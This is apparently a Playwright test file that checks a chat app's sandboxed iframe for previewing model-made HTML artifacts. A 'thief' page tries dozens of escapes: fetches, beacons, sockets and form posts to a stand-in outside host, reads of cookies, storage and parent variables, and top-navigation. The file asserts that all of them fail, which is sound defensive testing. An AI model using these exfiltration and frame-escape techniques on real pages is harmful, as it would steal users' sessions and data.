"""Artifacts in their frame: a page runs there, and reaches nothing of ours and nobody else, though it tries."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import Watch
from tests.browser.site import SECRET, Site
from tests.browser.waiting import until

# Each attempt says what it got; "no" or an error's name is what it should get.
ATTEMPTS = {
    "fetch a stranger": "fetch(`${X}/fetch?${S}`).then(() => 'sent')",
    "fetch a stranger blindly": "fetch(`${X}/blind`, { mode: 'no-cors' }).then(() => 'sent')",
    "fetch ours": "fetch(`${O}/api/session`, { credentials: 'include' }).then((r) => r.text())",
    "xhr": "xhr(`${O}/api/session`)",
    "beacon": "navigator.sendBeacon(`${X}/beacon`, 'x') && later('no')",
    "image": "asset('img', 'src', `${X}/image.png`)",
    "our image": "asset('img', 'src', `${O}/api/files/f`)",
    "script": "asset('script', 'src', `${X}/s.js`)",
    "our script": "asset('script', 'src', `${O}/app.js`)",
    "style": "asset('link', 'href', `${X}/s.css`, { rel: 'stylesheet' })",
    "prefetch": "asset('link', 'href', `${X}/prefetch`, { rel: 'prefetch' })",
    "preload": "asset('link', 'href', `${X}/preload`, { rel: 'preload', as: 'image' })",
    "frame": "asset('iframe', 'src', `${X}/frame`)",
    "our frame": "asset('iframe', 'src', `${O}/`)",
    "frame of its own": "asset('iframe', 'srcdoc', '<script>parent.parent.stolen=1</' + 'script>')",
    "object": "asset('object', 'data', `${X}/object`)",
    "video": "asset('video', 'src', `${X}/video`)",
    "font": "new FontFace('f', `url(${X}/font.woff2)`).load().then(() => 'loaded')",
    "css url": "(document.body.style.background = `url(${X}/css.png)`, later('no'))",
    "socket": "opens(new WebSocket(X.replace('http', 'ws')))",
    "events": "opens(new EventSource(`${X}/events`))",
    "worker": "works(`fetch('${X}/worker')`)",
    "import": "import(`${X}/module.js`).then(() => 'loaded')",
    "form": "sends(`${X}/form`)",
    "window": "String(window.open(`${X}/open`) ?? 'no')",
    "top": "(top.location = `${X}/top`, later('no'))",
    "parent's address": "(parent.location.href = `${X}/parent`, later('no'))",
    "parent's words": "parent.document.body.textContent",
    "parent's address read": "parent.location.href",
    "parent's variables": "parent.secret",
    "frame element": "String(window.frameElement ?? 'no')",
    "cookies": "document.cookie || 'no'",
    "storage": "localStorage.getItem('secret')",
    "session": "sessionStorage.length",
    "database": "indexedDB.open('x') && later('opened')",
    "caches": "caches.keys().then(() => 'read')",
    "workers": "navigator.serviceWorker.getRegistrations().then(() => 'read')",
    "dialog": "(alert('x'), 'no')",
    "download": "downloads('data:text/plain,x')",
    "peer": "offers(RTCPeerConnection)",
    "peer of a frame": "offers(inner().RTCPeerConnection)",
    "transport": "new WebTransport(X.replace('http:', 'https:')).ready.then(() => 'open')",
    "camera": "navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'sees')",
    "place": "new Promise((y) => navigator.geolocation.getCurrentPosition(() => y('knows'), () => y('no')))",
    "clipboard": "navigator.clipboard.readText()",
    "domain": "(document.domain = '127.0.0.1', 'no')",
    "push": "Notification.requestPermission().then((p) => (p === 'granted' ? p : 'no'))",
}  # fmt: skip
THIEF = """<!doctype html><title>Thief</title><body><h1>Working</h1><script>
const X = "%(stranger)s", O = "%(ours)s", U = %(udp)d, S = "s";
const later = (value) => new Promise((done) => setTimeout(() => done(value), 250));
const asset = (name, attribute, url, more = {}) => new Promise((done) => {
    const node = document.createElement(name);
    Object.assign(node, more);
    node.onload = () => done(name === "iframe" ? "no" : "loaded");
    node.onerror = () => done("no");
    node[attribute] = url;
    document.body.append(node);
    setTimeout(() => done("no"), 300);
});
const xhr = (url) => new Promise((done) => {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    request.onload = () => done(request.responseText);
    request.onerror = () => done("no");
    request.send();
});
const opens = (socket) => new Promise((done) => {
    socket.onopen = () => done("open");
    socket.onerror = () => done("no");
});
const works = (source) => new Promise((done) => {
    new Worker(URL.createObjectURL(new Blob([source]))).onerror = () => done("no");
    setTimeout(() => done("no"), 300);
});
const sends = (action) => {
    const form = document.body.appendChild(document.createElement("form"));
    form.action = action;
    form.submit();
    return later("no");
};
const downloads = (href) => {
    const link = document.body.appendChild(document.createElement("a"));
    link.href = href;
    link.download = "x";
    link.click();
    return later("no");
};
const inner = () => document.body.appendChild(document.createElement("iframe")).contentWindow;
const offers = (Peer) => {
    const peer = new Peer({ iceServers: [{ urls: `stun:127.0.0.1:${U}` }] });
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    return later("offered");
};
(async () => {
    let got;
    try { got = await Promise.race([(async () => (%(attempt)s))(), later("no").then(() => later("no"))]); }
    catch (e) { got = `no: ${e.name}`; }
    parent.postMessage({ thief: String(got) }, "*");
})();
</script>"""
OPEN = """async ([html, kind]) => {
    window.secret = "ours";
    localStorage.setItem("secret", "ours");
    const { frameOf } = await import("/artifacts.js");
    window.got = undefined;
    window.faults = [];
    addEventListener("message", ({ data }) => { if (data?.thief !== undefined) window.got ??= data.thief; });
    document.querySelector("#place").replaceChildren(frameOf(html, "Preview", (fault) => window.faults.push(fault)));
}"""


def attack(page: Page, site: Site, attempt: str) -> str:
    html = THIEF % {"stranger": site.stranger, "ours": site.url, "udp": site.udp_port, "attempt": attempt}
    page.evaluate(OPEN, [html, "html"])
    until(page, "window.got !== undefined")
    got: str = page.evaluate("got")
    return got


@pytest.mark.parametrize("name", ATTEMPTS)
def test_a_page_of_a_model_reaches_nothing(page: Page, site: Site, watch: Watch, name: str) -> None:
    watch.allow("")  # the browser says a lot about each attempt; what counts is what arrived
    page.context.add_cookies([{"name": "freehold_session", "value": SECRET, "url": site.url}])
    site.datagrams = 0
    got = attack(page, site, ATTEMPTS[name])
    assert got == "no" or re.match(r"no: \w+", got), got
    page.wait_for_timeout(150)
    assert [each for each in site.seen if "stranger" in each or "with cookie" in each] == []
    assert site.datagrams == 0
    assert page.url == f"{site.url}/test/bench.html"
    assert len(page.context.pages) == 1
    assert page.evaluate("window.stolen") == 0
    page.context.clear_cookies()


@pytest.mark.parametrize("where", ["stranger", "ours"])
def test_the_frame_cannot_be_led_away(page: Page, site: Site, watch: Watch, where: str) -> None:
    """It may try to carry words out in an address: the page around it lets it go nowhere else."""
    watch.allow("")
    page.context.add_cookies([{"name": "freehold_session", "value": SECRET, "url": site.url}])
    target = f"{site.stranger}/carry?words" if where == "stranger" else f"{site.url}/api/session"
    moves = (
        f"location = '{target}'",
        f"location.replace('{target}')",
        f"document.write('<a href={target}>x</a>'); document.querySelector('a').click()",
        f"document.write('<meta http-equiv=refresh content=0;url={target}>')",
    )
    for move in moves:
        page.evaluate(OPEN, [f"<script>{move}</script>", "html"])
        page.wait_for_timeout(400)
    assert [each for each in site.seen if "stranger" in each or "with cookie" in each] == []
    assert page.url == f"{site.url}/test/bench.html"
    page.context.clear_cookies()


def test_a_page_runs_and_its_faults_are_told(page: Page, watch: Watch) -> None:
    watch.allow("nosuch")
    html = "<h1 id=h>No</h1><script>document.querySelector('#h').textContent = 'Yes'; nosuch()</script>"
    page.evaluate(OPEN, [html, "html"])
    frame = page.frame_locator("iframe.artifact-frame")
    assert frame.locator("h1").text_content() == "Yes"
    until(page, "faults.length === 1")
    assert "nosuch" in page.evaluate("faults[0]")


PANEL = """async (messages) => {
    const { collect } = await import("/artifacts.js");
    const panel = document.createElement("fh-artifact");
    document.querySelector("#place").replaceChildren(panel);
    window.all = collect(messages);
    panel.show(all[0]);
    return all.map(({ kind, title, versions }) => [kind, title, versions.length]);
}"""
TALK = [
    {"id": "m1", "text": "Here:\n```html\n<title>Clock</title><p>one</p>\n```\nand\n```md\n# Plan\n\n- a\n```"},
    {"id": "m2", "text": "Better:\n```html\n<title>Clock</title><p>two</p>\n```"},
    {"id": "m3", "text": "```svg\n<svg viewBox='0 0 9 9'><title>Dot</title><circle r='4' cx='4' cy='4'/></svg>\n```"},
    {"id": "m4", "text": "```py\nx\n```\n```python file=a.py\nprint(1)\n```"},
]


def test_artifacts_of_a_talk_with_their_versions(page: Page, axe: Callable[[Page], list[str]]) -> None:
    found: Any = page.evaluate(PANEL, TALK)
    assert found == [["html", "Clock", 2], ["markdown", "Plan", 1], ["svg", "Dot", 1], ["code", "a.py", 1]]
    frame = page.frame_locator("iframe.artifact-frame")
    assert frame.locator("p").text_content() == "two"
    page.get_by_label("Version").select_option("0")
    assert frame.locator("p").text_content() == "one"
    page.get_by_role("button", name="Source").click()
    page.wait_for_selector(".code .tk-name")
    assert "one" in (page.locator(".artifact-body code").text_content() or "")
    assert [each for each in axe(page) if "landmark" not in each] == []
    with page.expect_download() as download:
        page.get_by_role("button", name="Download").click()
    assert download.value.suggested_filename == "Clock.html"
    assert download.value.path().read_text() == "<title>Clock</title><p>one</p>"
    page.evaluate("document.querySelector('fh-artifact').show(all[2])")
    page.get_by_role("button", name="Preview").click()
    assert page.locator("fh-artifact img").get_attribute("alt") == "Dot"
    page.evaluate("document.querySelector('fh-artifact').show(all[1])")
    page.wait_for_selector("fh-artifact fh-markdown li")
